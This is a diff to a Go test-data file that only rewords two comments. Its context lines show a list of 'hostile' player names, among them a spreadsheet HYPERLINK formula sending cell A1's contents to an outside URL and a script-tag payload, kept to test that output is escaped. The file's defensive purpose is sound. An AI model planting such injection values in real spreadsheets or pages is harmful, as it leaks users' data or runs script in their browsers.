@@ -2,7 +2,7 @@ package demo
 
 import "strings"
 
-// hostileNames are legal names that a careless spreadsheet, page or terminal would take for something else.
+// hostileNames are valid names that act as a formula, markup or control sequence where output is not escaped.
 var hostileNames = []string{
 	`=HYPERLINK("https://example.org/?"&A1,"Payslip")`,
 	`<script>alert("Ada")</script>`,
@@ -35,7 +35,7 @@ var lastNames = strings.Fields(`Abara Adeyemi Almeida Andersson Banerjee Barros 
 	Petrenko Popescu Rahman Ramos Rossi Said Santos Schneider Silva Singh Sørensen Suzuki Takahashi Tanaka Torres Tran
 	Vargas Wójcik Yılmaz Zhang`)
 
-// playerNames returns n names: the given ones first, then drawn ones, none twice.
+// playerNames returns n distinct names: the given ones first, then random ones.
 func playerNames(random seeded, given []string, n int) []string {
 	names := append([]string(nil), given...)
 	taken := map[string]bool{}
